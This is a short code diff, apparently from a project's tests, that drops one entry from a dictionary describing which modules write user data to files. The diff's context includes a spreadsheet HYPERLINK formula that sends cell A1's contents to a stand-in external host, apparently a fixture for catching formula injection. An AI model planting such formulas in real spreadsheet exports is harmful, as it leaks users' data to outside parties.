@@ -31,7 +31,6 @@ OF_DATA = {
     "probcal/try_table/experiment_files.py": "writes rows of data, from which the very values are read again",
     "probcal/try_table/export.py": "writes the identifiers of a user's own rows, to be joined to them",
     "probcal/deploy/model_folder.py": "writes the identifiers of a user's own rows, to be joined to them",
-    "probcal/measure/measure.py": "writes the columns of a user's own file as they are there",
     "probcal/reading/added_columns.py": "writes the columns of a user's own file as they are there",
 }
 FORMULA = '=HYPERLINK("http://elsewhere.example/?x="&A1,"click")'
